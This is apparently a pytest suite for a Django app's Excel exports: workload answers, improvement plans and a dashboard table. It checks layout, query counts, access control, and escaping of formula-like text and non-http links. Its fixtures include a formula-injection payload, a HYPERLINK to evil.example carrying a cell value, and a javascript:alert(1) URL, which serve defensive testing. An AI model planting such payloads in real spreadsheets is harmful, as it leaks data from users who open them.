"""Excel downloads: a workload's answers, a lens review's improvement plan and the dashboard's
workload table, read back with openpyxl."""

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lenses.services import lens_import, lens_version_publish
from reviews.models import (
    Answer,
    AnswerRisk,
    ImprovementItem,
    ImprovementStatus,
    Role,
    WorkloadActivity,
)
from reviews.services import (
    answer_applicability_update,
    answer_choice_update,
    answer_notes_update,
    workload_add_lens,
    workload_create,
    workload_share,
)
from reviews.views.dashboard import PER_PAGE
from reviews.workbooks import CELL_LIMIT, CONTENT_TYPE, CUT, safe_text, sheet_title
from tests.factories import answers_set_risk, lens_bytes

# session, user, workload, its lens reviews; the snapshots: pillars, questions, choices, answers
# with their choice rows and items (one query), pillar notes; the workload's profile; the line in
# the activity log
ANSWERS_QUERIES = 11
PLAN_QUERIES = (
    12  # session, user, lens review, the snapshot (5), open items, profile, activity line
)
# session, user, and the dashboard's data (reviews.dashboard.portfolio, counted afresh: with
# the lenses reviewed, for the dashboard's lens picker)
DASHBOARD_QUERIES = 13
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def answers_url(workload):
    return reverse("reviews:answers_xlsx", args=[workload.public_id])


def plan_url(workload, **params):
    url = reverse("reviews:improvement_xlsx", args=[workload.public_id, "wellarchitected"])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def dashboard_url(**params):
    url = reverse("reviews:dashboard_xlsx")
    return url + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def book_of(response):
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Cache-Control"] == "private, no-store"
    return load_workbook(io.BytesIO(response.content))


def records(sheet) -> list[dict]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def by_id(sheet) -> dict[str, dict]:
    return {row["Question ID"]: row for row in records(sheet)}


def cell_of(sheet, column: str, key: str, value: str, *, key_column: str = "Question ID"):
    """The cell of `column` in the row whose `key_column` is `value`."""
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[header.index(key_column)].value == value:
            return row[header.index(column)]
    raise AssertionError(f"no row with {key_column} {value}")


def assert_laid_out(sheet):
    """Bold frozen header, a filter over every row and column, widths set."""
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == (
        f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
    )
    assert all(cell.font.bold for cell in sheet[1])
    assert all(sheet.column_dimensions[cell.column_letter].width >= 8 for cell in sheet[1])


def answer_of(workload, question_id) -> Answer:
    return Answer.objects.select_related("question", "lens_review").get(
        lens_review__workload=workload,
        lens_review__lens__alias="wellarchitected",
        question__question_id=question_id,
    )


def tick(workload, user, question_id, *choice_ids, status="SELECTED", **extra) -> Answer:
    answer = answer_of(workload, question_id)
    for choice_id in choice_ids:
        answer, _ = answer_choice_update(
            answer=answer, choice_id=choice_id, status=status, user=user, **extra
        )
    return answer


def note(workload, user, question_id, notes):
    answer = answer_of(workload, question_id)
    answer_notes_update(answer=answer, notes=notes, base_version=answer.notes_version, user=user)


@pytest.fixture
def team_lens(alice):
    version = lens_import(raw=lens_bytes(name="Team Lens", pillars=2, questions=2), user=alice)
    return lens_version_publish(lens_version=version, version="1.0").lens


def titles_of(answer, *choice_ids):
    titles = dict(answer.question.choices.values_list("choice_id", "title"))
    return [titles[choice_id] for choice_id in choice_ids]


# -- answers -------------------------------------------------------------------------------------


def test_the_answers_workbook_has_a_sheet_per_lens_and_a_row_per_question(
    client, carol, alice, workload, team_lens
):
    workload_add_lens(workload=workload, lens=team_lens)
    answer = tick(workload, alice, "sec1", "sec1_bp1", "sec1_bp2")
    client.force_login(carol)

    response = client.get(answers_url(workload))

    assert response["Content-Disposition"] == 'attachment; filename="payments-api-answers.xlsx"'
    book = book_of(response)
    assert book.sheetnames == [
        workload.lens_reviews.get(lens__is_builtin=True).lens_version.name,
        "Team Lens",
    ]
    sheet = book.worksheets[0]
    assert_laid_out(sheet)
    assert [cell.value for cell in sheet[1]] == [
        "Pillar",
        "Question ID",
        "Question",
        "Risk",
        "Prioritised",
        "Score",
        "Ticked choices",
        "Not applicable choices",
        "Question applies",
        "Reason the question does not apply",
        "Notes",
    ]
    rows = by_id(sheet)
    assert len(rows) == Answer.objects.filter(lens_review__lens__is_builtin=True).count()
    practices = answer.question.choices.filter(is_none=False).count()
    assert rows["sec1"] == {
        "Pillar": "Security",
        "Question ID": "sec1",
        "Question": answer.question.title,
        "Risk": "Medium risk",
        "Prioritised": "No",
        "Score": pytest.approx(2 / practices),
        "Ticked choices": "\n".join(titles_of(answer, "sec1_bp1", "sec1_bp2")),
        "Not applicable choices": None,
        "Question applies": "Yes",
        "Reason the question does not apply": None,
        "Notes": None,
    }
    score = cell_of(sheet, "Score", "Question ID", "sec1")
    assert score.data_type == "n" and score.number_format == "0%"
    assert cell_of(sheet, "Ticked choices", "Question ID", "sec1").alignment.wrap_text
    assert rows["rel1"]["Risk"] == "Unanswered" and rows["rel1"]["Score"] is None
    team = records(book["Team Lens"])
    assert [row["Question ID"] for row in team] == ["p1_q1", "p1_q2", "p2_q1", "p2_q2"]


def test_not_applicable_choices_and_questions_carry_their_reasons(client, alice, workload):
    answer = tick(
        workload,
        alice,
        "sec1",
        "sec1_bp6",
        status="NOT_APPLICABLE",
        reason="ARCHITECTURE_CONSTRAINTS",
        notes="No second region.",
    )
    tick(workload, alice, "sec1", "sec1_bp1")
    ticked = tick(workload, alice, "rel1", "rel1_bp1")
    answer_applicability_update(
        answer=answer_of(workload, "rel1"), is_applicable=False, reason="OUT_OF_SCOPE", user=alice
    )
    client.force_login(alice)

    rows = by_id(book_of(client.get(answers_url(workload))).worksheets[0])

    [bp6] = titles_of(answer, "sec1_bp6")
    assert rows["sec1"]["Not applicable choices"] == (
        f"{bp6}: Architecture constraints – No second region."
    )
    practices = answer.question.choices.filter(is_none=False).count()
    assert rows["sec1"]["Score"] == pytest.approx(1 / (practices - 1))
    rel1 = rows["rel1"]
    assert rel1["Risk"] == "Not applicable" and rel1["Score"] is None
    assert rel1["Question applies"] == "No"
    assert rel1["Reason the question does not apply"] == "Out of scope"
    [title] = titles_of(ticked, "rel1_bp1")
    assert rel1["Ticked choices"] == f"{title}\n(not counted: the question does not apply)"


def test_text_a_spreadsheet_would_run_as_a_formula_stays_text(client, alice, workload):
    for question_id, notes in [("sec1", EVIL), ("sec2", "+1+2"), ("rel1", "-2"), ("rel2", "@A1")]:
        note(workload, alice, question_id, notes)
    note(workload, alice, "ops1", "\tTabbed")
    note(workload, alice, "ops2", "Fine = safe")
    client.force_login(alice)

    sheet = book_of(client.get(answers_url(workload))).worksheets[0]

    expected = {
        "sec1": f"'{EVIL}",
        "sec2": "'+1+2",
        "rel1": "'-2",
        "rel2": "'@A1",
        "ops1": "'\tTabbed",
        "ops2": "Fine = safe",
    }
    for question_id, value in expected.items():
        cell = cell_of(sheet, "Notes", "Question ID", question_id)
        assert (cell.value, cell.data_type) == (value, "s")


def test_control_characters_are_dropped_rather_than_breaking_the_file(client, alice, workload):
    note(workload, alice, "sec1", "Ring\x07 the\x1b bell\x0b\nthen\ttab")
    note(workload, alice, "sec2", "\x01=SUM(A1)")
    client.force_login(alice)

    rows = by_id(book_of(client.get(answers_url(workload))).worksheets[0])

    assert rows["sec1"]["Notes"] == "Ring the bell\nthen\ttab"
    assert rows["sec2"]["Notes"] == "'=SUM(A1)"


def test_the_answers_workbook_takes_the_same_queries_however_much_is_answered(
    client, alice, workload, team_lens, django_assert_max_num_queries
):
    client.force_login(alice)
    with django_assert_max_num_queries(ANSWERS_QUERIES):
        client.get(answers_url(workload))
    workload_add_lens(workload=workload, lens=team_lens)
    for question_id in ("ops1", "sec1", "sec2", "rel1", "perf1", "cost1"):
        tick(workload, alice, question_id, f"{question_id}_bp1", f"{question_id}_bp2")
        note(workload, alice, question_id, "Noted.")

    with django_assert_max_num_queries(ANSWERS_QUERIES):
        response = client.get(answers_url(workload))
    assert len(book_of(response).sheetnames) == 2


def test_the_answers_export_goes_into_the_activity_log(client, carol, workload):
    client.force_login(carol)

    client.get(answers_url(workload))

    entry = WorkloadActivity.objects.get(workload=workload, action="EXPORTED")
    assert entry.user == carol
    assert entry.detail == {"what": "the answers of every lens as Excel"}


# -- improvement plan ----------------------------------------------------------------------------


def test_the_plan_workbook_has_dates_links_and_people(client, alice, carol, workload):
    carol.first_name, carol.last_name = "Carol", "Reader"
    carol.save()
    medium = tick(workload, alice, "sec1", "sec1_bp1", "sec1_bp2")
    tick(workload, alice, "rel1", "rel1_no")
    due = timezone.localdate() - datetime.timedelta(days=2)
    ImprovementItem.objects.filter(answer=medium).update(
        status=ImprovementStatus.IN_PROGRESS, assignee=carol, due_date=due, comment=EVIL
    )
    client.force_login(carol)

    response = client.get(plan_url(workload))

    assert response["Content-Disposition"] == (
        'attachment; filename="payments-api-wellarchitected-improvement-plan.xlsx"'
    )
    book = book_of(response)
    assert book.sheetnames == ["Improvement plan", "Improvement links"]
    sheet = book["Improvement plan"]
    assert_laid_out(sheet)
    rows = by_id(sheet)
    assert list(rows) == ["rel1", "sec1"]
    sec1 = rows["sec1"]
    assert sec1["Risk"] == "Medium risk" and sec1["Status"] == "In progress"
    assert sec1["Assignee"] == "Carol Reader (carol)"
    assert sec1["Due date"] == datetime.datetime.combine(due, datetime.time())
    assert cell_of(sheet, "Due date", "Question ID", "sec1").is_date
    assert sec1["Overdue"] == "Yes" and rows["rel1"]["Overdue"] == "No"
    assert sec1["Comment"] == f"'{EVIL}"
    missing = list(
        medium.question.choices.filter(is_none=False)
        .exclude(choice_id__in=["sec1_bp1", "sec1_bp2"])
        .order_by("order")
    )
    assert sec1["Missing best practices"] == "\n".join(choice.title for choice in missing)
    link = cell_of(sheet, "Improvement plan", "Question ID", "sec1")
    assert link.hyperlink.target == missing[0].improvement_plan_url
    links = [row for row in records(book["Improvement links"]) if row["Question ID"] == "sec1"]
    assert [row["Best practice"] for row in links] == [choice.title for choice in missing]
    first = cell_of(book["Improvement links"], "Best practice", "Question ID", "sec1")
    target = book["Improvement links"].cell(first.row, 5)
    assert target.hyperlink.target == missing[0].improvement_plan_url
    assert target.value == (missing[0].improvement_plan_text or missing[0].improvement_plan_url)


def test_the_plan_workbook_links_only_http_addresses(client, alice, workload):
    answer = tick(workload, alice, "sec1", "sec1_no")
    answer.question.choices.update(
        improvement_plan_url="javascript:alert(1)", improvement_plan_text="Read this"
    )
    client.force_login(alice)

    book = book_of(client.get(plan_url(workload)))

    assert (
        cell_of(book["Improvement plan"], "Improvement plan", "Question ID", "sec1").value is None
    )
    for row in book["Improvement links"].iter_rows(min_row=2):
        assert row[4].value == "Read this" and row[4].hyperlink is None


def test_the_plan_workbook_takes_the_filters_of_the_page(client, alice, workload):
    tick(workload, alice, "sec1", "sec1_bp1", "sec1_bp2")
    tick(workload, alice, "rel1", "rel1_no")
    client.force_login(alice)

    book = book_of(client.get(plan_url(workload, risk="MEDIUM")))

    assert list(by_id(book["Improvement plan"])) == ["sec1"]


def test_the_plan_workbook_of_a_review_without_risks_has_only_headers(client, alice, workload):
    client.force_login(alice)

    book = book_of(client.get(plan_url(workload)))

    assert [sheet.max_row for sheet in book.worksheets] == [1, 1]
    assert book["Improvement plan"].auto_filter.ref == "A1:K1"


def test_the_plan_workbook_takes_the_same_queries_however_long(
    client, alice, workload, django_assert_max_num_queries
):
    client.force_login(alice)
    tick(workload, alice, "sec1", "sec1_no")
    with django_assert_max_num_queries(PLAN_QUERIES):
        client.get(plan_url(workload))
    for question_id in ("ops1", "ops2", "sec2", "rel1", "rel2", "perf1", "cost1", "sus1"):
        tick(workload, alice, question_id, f"{question_id}_no")
    ImprovementItem.objects.update(assignee=alice, due_date=timezone.localdate())

    with django_assert_max_num_queries(PLAN_QUERIES):
        response = client.get(plan_url(workload))
    assert len(by_id(book_of(response)["Improvement plan"])) == 9


# -- the dashboard's workload table --------------------------------------------------------------


def make_workload(owner, name, *, environment="PRODUCTION", tags=None):
    return workload_create(
        owner=owner,
        name=name,
        description=f"About {name}.",
        environment=environment,
        review_owner="Someone",
        tags=tags or {},
    )


def set_risks(workload, **risks):
    for question_id, risk in risks.items():
        answers_set_risk(
            Answer.objects.filter(
                lens_review__workload=workload,
                lens_review__lens__alias="wellarchitected",
                question__question_id=question_id,
            ),
            risk,
        )


def test_the_dashboard_workbook_lists_every_workload_riskiest_first(
    client, alice, bob, workload, builtin_lens
):
    set_risks(workload, sec1=AnswerRisk.HIGH, sec2=AnswerRisk.HIGH, rel1=AnswerRisk.MEDIUM)
    wiki = make_workload(bob, "Wiki", environment="PREPRODUCTION")
    workload_share(workload=wiki, user=alice, role=Role.READONLY)
    for n in range(PER_PAGE + 1):
        make_workload(alice, f"Quiet {n:02}")
    client.force_login(alice)

    response = client.get(dashboard_url())

    assert response["Content-Disposition"].startswith('attachment; filename="archlens-dashboard-')
    book = book_of(response)
    assert book.sheetnames == ["Workloads", "Filters"]
    sheet = book["Workloads"]
    assert_laid_out(sheet)
    rows = records(sheet)
    assert len(rows) == PER_PAGE + 3  # every page of the table
    first = rows[0]
    assert first["Workload"] == "Payments API" and first["Owner"] == "alice"
    assert first["Environment"] == "Production"
    assert (first["High risks"], first["Medium risks"]) == (2, 1)
    assert (first["Security: high"], first["Reliability: medium"]) == (2, 1)
    assert first["Worst pillar"] == f"Security ({builtin_lens.lens.name})"
    assert first["Improvement status"] == "None"
    updated = cell_of(sheet, "Last updated", "Workload", "Payments API", key_column="Workload")
    assert updated.is_date
    wiki_row = next(row for row in rows if row["Workload"] == "Wiki")
    assert wiki_row["Environment"] == "Pre-production" and wiki_row["Owner"] == "bob"
    assert records(book["Filters"])[0] == {"Filter": "Environment", "Value": "Any"}


def test_the_dashboard_workbook_takes_the_dashboards_filters(client, alice, workload):
    set_risks(workload, sec1=AnswerRisk.HIGH)
    make_workload(alice, "Search", environment="PREPRODUCTION")
    client.force_login(alice)

    book = book_of(client.get(dashboard_url(environment="PRODUCTION")))
    assert [row["Workload"] for row in records(book["Workloads"])] == ["Payments API"]
    filters = {row["Filter"]: row["Value"] for row in records(book["Filters"])}
    assert filters["Environment"] == "Production" and filters["Tag"] == "Any"

    book = book_of(client.get(dashboard_url(question="wellarchitected:sec1")))
    [row] = records(book["Workloads"])
    assert row["Workload"] == "Payments API" and row["Risk of wellarchitected:sec1"] == "High risk"

    book = book_of(client.get(dashboard_url(question="not a question")))
    assert "Risk of not a question" not in [c.value for c in book["Workloads"][1]]
    assert len(records(book["Workloads"])) == 2


def test_a_workload_named_like_a_formula_stays_text(client, alice, builtin_lens):
    make_workload(alice, EVIL)
    client.force_login(alice)

    sheet = book_of(client.get(dashboard_url()))["Workloads"]

    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == (f"'{EVIL}", "s")


def test_the_dashboard_workbook_takes_the_same_queries_for_more_workloads(
    client, alice, bob, workload, team_lens, django_assert_max_num_queries
):
    client.force_login(alice)
    with django_assert_max_num_queries(DASHBOARD_QUERIES):
        client.get(dashboard_url())
    for n in range(6):
        other = make_workload(bob if n % 2 else alice, f"Grown {n}", tags={"n": str(n)})
        if n % 2:
            workload_share(workload=other, user=alice, role=Role.CONTRIBUTOR)
        if n % 3 == 0:
            workload_add_lens(workload=other, lens=team_lens)
        set_risks(other, sec1=AnswerRisk.HIGH, rel1=AnswerRisk.MEDIUM)

    with django_assert_max_num_queries(DASHBOARD_QUERIES):
        response = client.get(dashboard_url())
    assert len(records(book_of(response)["Workloads"])) == 7


def test_the_dashboard_workbook_shows_mallory_none_of_alices_workloads(client, mallory, workload):
    client.force_login(mallory)

    assert records(book_of(client.get(dashboard_url()))["Workloads"]) == []


# -- access --------------------------------------------------------------------------------------

URLS = {
    "answers": lambda workload: answers_url(workload),
    "plan": lambda workload: plan_url(workload),
    "dashboard": lambda workload: dashboard_url(),
}


@pytest.mark.parametrize("which", URLS)
def test_each_workbook_requires_login_and_rejects_post(client, alice, workload, which):
    url = URLS[which](workload)

    response = client.get(url)
    assert response.status_code == 302 and response.url.startswith(reverse("login"))
    client.force_login(alice)
    assert client.post(url).status_code == 405


@pytest.mark.parametrize("which", ["answers", "plan"])
def test_a_workloads_workbooks_are_hidden_from_people_without_access(
    client, mallory, admin_user, workload, which
):
    for user in (mallory, admin_user):
        client.force_login(user)
        assert client.get(URLS[which](workload)).status_code == 404


def test_the_pages_link_to_the_workbooks(client, alice, workload):
    tick(workload, alice, "sec1", "sec1_no")
    client.force_login(alice)
    overview = reverse("reviews:overview", args=[workload.public_id, "wellarchitected"])
    plan = reverse("reviews:improvement_plan", args=[workload.public_id, "wellarchitected"])

    assert answers_url(workload) in client.get(overview).content.decode()
    assert (
        plan_url(workload, risk="HIGH").replace("&", "&amp;")
        in client.get(plan + "?risk=HIGH").content.decode()
    )
    detail = client.get(reverse("reviews:workload_detail", args=[workload.public_id]))
    assert answers_url(workload) in detail.content.decode()
    assert plan_url(workload) in detail.content.decode()
    dashboard = client.get(reverse("reviews:dashboard") + "?environment=PRODUCTION")
    assert dashboard_url(environment="PRODUCTION") in dashboard.content.decode()


# -- the building blocks -------------------------------------------------------------------------


def test_text_longer_than_a_cell_is_cut_visibly():
    text = safe_text("x" * (CELL_LIMIT + 10))

    assert len(text) == CELL_LIMIT and text.endswith(CUT)
    assert safe_text("x" * CELL_LIMIT) == "x" * CELL_LIMIT


@pytest.mark.parametrize(
    ("name", "taken", "title"),
    [
        (
            "Well-Architected Framework Lens for Serverless",
            set(),
            "Well-Architected Framework Lens",
        ),
        ("Q1: [draft] a/b\\c*d?", set(), "Q1 draft a b c d"),
        ("Team Lens", {"team lens"}, "Team Lens (2)"),
        ("x" * 40, {"x" * 31}, "x" * 27 + " (2)"),
        ("'quoted'", set(), "quoted"),
        ("[]:*", set(), "Sheet"),
        ("History", set(), "History (2)"),
        ("Bell\x07", set(), "Bell"),
    ],
)
def test_sheet_names_are_ones_excel_accepts(name, taken, title):
    assert sheet_title(name, set(taken)) == title
